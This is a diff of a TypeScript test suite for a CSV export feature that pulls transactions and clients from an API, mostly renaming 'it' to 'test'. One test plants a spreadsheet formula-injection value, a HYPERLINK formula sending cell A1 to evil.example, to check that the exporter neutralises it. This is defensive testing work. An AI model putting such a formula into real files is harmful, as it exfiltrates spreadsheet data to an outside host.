@@ -63,7 +63,7 @@ async function idsAsItems(parameters: INodeParameters): Promise<string[]> {
 }
 
 describe('a file', () => {
-	it('has the rows that come as items, in the same order, over periods that meet', async () => {
+	test('has the rows that come as items, in the same order, over periods that meet', async () => {
 		seed(2300);
 		for (const reportOrder of ['oldest-first', 'newest-first']) {
 			if (reportOrder === 'newest-first') fixture.sandbox.data.transactions.reverse();
@@ -79,7 +79,7 @@ describe('a file', () => {
 		}
 	});
 
-	it('has a header of the fields that items have, also where there are no rows', async () => {
+	test('has a header of the fields that items have, also where there are no rows', async () => {
 		seed(0);
 		const { item, text } = await fileOf(transactions());
 		expect(item.json.rows).toBe(0);
@@ -88,21 +88,24 @@ describe('a file', () => {
 		expect(cellsOf(text)).toEqual([Object.keys(row)]);
 	});
 
-	it('has all fields where Simplify is off', async () => {
+	test('has all fields where Simplify is off', async () => {
 		const { text } = await fileOf(clients({ simplify: false }));
 		const [header] = cellsOf(text);
 		expect(header).toEqual(expect.arrayContaining(['id', 'email', 'phone.number']));
 		expect(text.split('\r\n')[1]).toContain('"[');
 	});
 
-	it.each([0, 1, 499, 500, 501, 998, 999, 1000, 1001])('of %d clients is whole', async (count) => {
-		const { data } = fixture.sandbox;
-		data.clients = data.clients.filter(({ suspended }) => !suspended).slice(0, count);
-		const { text } = await fileOf(clients());
-		expect(text.match(/^[0-9a-z]{8},/gm) ?? []).toEqual(data.clients.map(({ id }) => `${id},`));
-	});
+	test.each([0, 1, 499, 500, 501, 998, 999, 1000, 1001])(
+		'of %d clients is whole',
+		async (count) => {
+			const { data } = fixture.sandbox;
+			data.clients = data.clients.filter(({ suspended }) => !suspended).slice(0, count);
+			const { text } = await fileOf(clients());
+			expect(text.match(/^[0-9a-z]{8},/gm) ?? []).toEqual(data.clients.map(({ id }) => `${id},`));
+		},
+	);
 
-	it('is there for each item, in the field that was chosen, linked to it', async () => {
+	test('is there for each item, in the field that was chosen, linked to it', async () => {
 		const { all } = await fileOf(
 			clients({ returnAll: false, limit: '={{ $json.limit }}', outputBinaryField: 'report' }),
 			[{ limit: 2 }, { limit: 3 }],
@@ -118,14 +121,14 @@ describe('a file', () => {
 		}
 	});
 
-	it('has the name and the mark that were chosen', async () => {
+	test('has the name and the mark that were chosen', async () => {
 		const options = { fileName: 'all.csv', addBom: true };
 		const { item, text } = await fileOf(clients({ options }));
 		expect(item.binary?.data.fileName).toBe('all.csv');
 		expect(text.startsWith('\uFEFFid,')).toBe(true);
 	});
 
-	it('is there for lists without pages and for trees', async () => {
+	test('is there for lists without pages and for trees', async () => {
 		const { item, text } = await fileOf({ resource: 'configuration', operation: 'getCountries' });
 		expect(item.json.rows).toBe(text.split('\r\n').length - 2);
 		const [client] = fixture.sandbox.data.clients;
@@ -133,7 +136,7 @@ describe('a file', () => {
 		expect((await fileOf(tree)).item.json.rows).toBeGreaterThan(0);
 	});
 
-	it('runs in no spreadsheet', async () => {
+	test('runs in no spreadsheet', async () => {
 		const { data } = fixture.sandbox;
 		data.clients = data.clients.filter(({ suspended }) => !suspended).slice(0, 1);
 		data.clients[0].name = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
@@ -141,7 +144,7 @@ describe('a file', () => {
 		expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1`);
 	});
 
-	it('has the rows that came meanwhile, each once', async () => {
+	test('has the rows that came meanwhile, each once', async () => {
 		const { data } = fixture.sandbox;
 		data.clients = data.clients.filter(({ suspended }) => !suspended);
 		const before = data.clients.map(({ id }) => id);
@@ -158,7 +161,7 @@ describe('a file', () => {
 		expect(ids.slice(before.length).sort()).toEqual(['newatend', 'newfront']);
 	});
 
-	it('asks no more pages at once than the option allows', async () => {
+	test('asks no more pages at once than the option allows', async () => {
 		fixture.sandbox.faults.latencyMs = 20;
 		await fileOf(clients({ options: { maxConcurrentRequests: 2 } }));
 		expect(fixture.sandbox.inFlight.peak).toBe(2);
@@ -166,7 +169,7 @@ describe('a file', () => {
 });
 
 describe('a list that can’t be read whole is an error, no short file', () => {
-	it('because a page fails', async () => {
+	test('because a page fails', async () => {
 		fixture.sandbox.faults.rules = [
 			{ match: { path: 'skip=998' }, times: Infinity, action: { status: 500 } },
 		];
@@ -175,7 +178,7 @@ describe('a list that can’t be read whole is an error, no short file', () => {
 		expect(result.outputs('Done')[0].binary).toBeUndefined();
 	});
 
-	it('because its pages never fit together', async () => {
+	test('because its pages never fit together', async () => {
 		const { data } = fixture.sandbox;
 		afterRequest = () => {
 			for (const client of data.clients)
@@ -186,7 +189,7 @@ describe('a list that can’t be read whole is an error, no short file', () => {
 	});
 });
 
-it('is no matter of operations that list nothing', async () => {
+test('is no matter of operations that list nothing', async () => {
 	const result = await fixture.run({
 		resource: 'client',
 		operation: 'get',
